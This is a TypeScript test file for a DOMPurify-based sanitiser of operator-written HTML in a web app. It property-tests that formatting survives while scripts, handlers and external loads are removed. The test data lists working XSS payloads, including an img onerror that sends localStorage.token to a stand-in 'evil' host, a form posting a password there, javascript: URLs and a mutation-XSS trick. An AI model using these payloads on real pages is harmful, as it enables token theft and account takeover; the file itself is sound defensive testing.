/**
 * The sanitiser of operator HTML (uber and overview messages): whatever an operator (or a stolen
 * operator token) writes, what reaches a player's page can run nothing and load nothing but images
 * and links; formatting stays. DOMPurify runs on jsdom here, on the browser's DOM in the app.
 */
import fc from 'fast-check';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { JSDOM } from 'jsdom';
import { operatorHtmlSanitizer, sanitizeOperatorHtml } from '../../web/src/logic/operator-html';

const { window } = new JSDOM('<!doctype html><html><body></body></html>');
const sanitize = operatorHtmlSanitizer(window as unknown as Parameters<typeof operatorHtmlSanitizer>[0]);

function parsed(html: string): Element {
  const holder = window.document.createElement('div');
  holder.innerHTML = html;
  return holder;
}

const DANGEROUS_TAGS = [
  'script',
  'style',
  'iframe',
  'frame',
  'object',
  'embed',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'button',
  'svg',
  'math',
  'template',
  'textarea',
];
const URL_ATTRIBUTES = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background'];

/** Everything found in the sanitised HTML that could run script or load something other than an image or a link. */
function hazards(html: string): string[] {
  const found: string[] = [];
  for (const element of Array.from(parsed(html).querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (DANGEROUS_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (name === 'style' || name === 'srcset') found.push(`${tag}[${name}]`);
      // eslint-disable-next-line no-control-regex
      const value = attribute.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.includes(name) && /^(javascript|vbscript|data:text|data:application)/.test(value))
        found.push(`${tag}[${name}=${value.slice(0, 20)}]`);
    }
  }
  return found;
}

const hostileTag = fc.constantFrom(
  '<script>alert(1)</script>',
  '<img src=x onerror="fetch(\'//evil/\'+localStorage.token)">',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<style>@import url(//evil/x.css)</style>',
  '<div style="background:url(//evil/track)">x</div>',
  '<object data="//evil/x.swf"></object>',
  '<embed src="//evil/x">',
  '<form action="//evil"><input name=password></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=//evil">',
  '<base href="//evil/">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img srcset="//evil/1x 1x">',
  '<video poster=javascript:alert(1)>',
  '<link rel=stylesheet href=//evil/x.css>',
  '<x onclick=alert(1)>y</x>',
);
const formatting = fc.constantFrom(
  '<b>',
  '</b>',
  '<i>',
  '</i>',
  '<p>',
  '</p>',
  '<br>',
  '<ul><li>',
  '</li></ul>',
  '<a href="https://example.org">',
  '</a>',
  '<h3>',
  '</h3>',
  '<em>',
  '</em>',
);
const text = fc.string({ maxLength: 12 });
const hostileHtml = fc.array(fc.oneof(hostileTag, formatting, text), { maxLength: 12 }).map((parts) => parts.join(''));

describe('operator HTML sanitiser', () => {
  // Not "sanitising again changes nothing": mis-nested markup (`<h3><h3>`) serialises to HTML that a
  // second parse nests differently. What matters is that no parse of the output (mutation XSS) runs anything.
  it('given any mix of hostile tags, formatting and text, then nothing that runs or loads is left, also when the browser parses the output again', () => {
    fc.assert(
      fc.property(hostileHtml, (html) => {
        const safe = sanitize(html);
        expect(hazards(safe)).toEqual([]);
        expect(hazards(parsed(safe).innerHTML)).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  it('given the script-bearing image of the finding, then the image stays without its handler', () => {
    const safe = sanitize(
      '<b>Gleich</b> geht es los <img src=x onerror="fetch(\'//x/\'+localStorage.token)"><script>alert(1)</script>',
    );
    expect(safe).toBe('<b>Gleich</b> geht es los <img>');
  });

  it('given formatting and links, then they stay (links open in a new tab without opener)', () => {
    const html = '<h3>Pause</h3><p>Weiter um <b>21 Uhr</b>, <i>bis gleich</i>!</p><ul><li>Eins</li></ul>';
    expect(sanitize(html)).toBe(html);
    expect(sanitize('<a href="https://example.org/x">Regeln</a>')).toBe(
      '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">Regeln</a>',
    );
  });

  it('given no DOM (server-side rendering), then only the text is given, escaped', () => {
    expect(sanitizeOperatorHtml('<b>Heute</b> <img src=x onerror=alert(1)>später & "so"')).toBe(
      'Heute später &#38; &#34;so&#34;',
    );
  });

  it('only components/OperatorHtml.tsx inserts HTML into the page', () => {
    const root = path.join(__dirname, '../../web/src');
    const inserting: string[] = [];
    const visit = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const file = path.join(dir, name);
        if (statSync(file).isDirectory()) visit(file);
        else if (
          /\.tsx?$/.test(name) &&
          /dangerouslySetInnerHTML|\.innerHTML\s*=|insertAdjacentHTML/.test(readFileSync(file, 'utf8'))
        )
          inserting.push(path.relative(root, file));
      }
    };
    visit(root);
    expect(inserting).toEqual(['components/OperatorHtml.tsx']);
  });
});
